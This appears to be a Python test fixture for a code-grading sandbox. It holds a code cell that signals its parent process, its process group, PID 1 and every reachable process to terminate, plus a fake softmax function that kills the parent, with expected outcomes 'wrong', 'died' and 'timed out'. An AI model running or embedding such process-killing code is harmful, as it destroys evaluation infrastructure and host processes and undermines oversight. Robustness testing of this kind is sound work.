"""Kills its parent, its group, the first process, and everything it can reach."""

CELL = """
import os
import signal

for target in (os.getppid(), -os.getppid(), 0, 1, -1):
    for number in (signal.SIGTERM, signal.SIGKILL):
        try:
            if target not in (0, -1) or number != signal.SIGKILL:
                os.kill(target, number)
        except OSError:
            pass


def softmax(logits):
    os.kill(os.getppid(), signal.SIGKILL)
    return np.zeros(logits.shape)
"""
STATES = (
    "wrong",
    "died",
    "timed out",
)
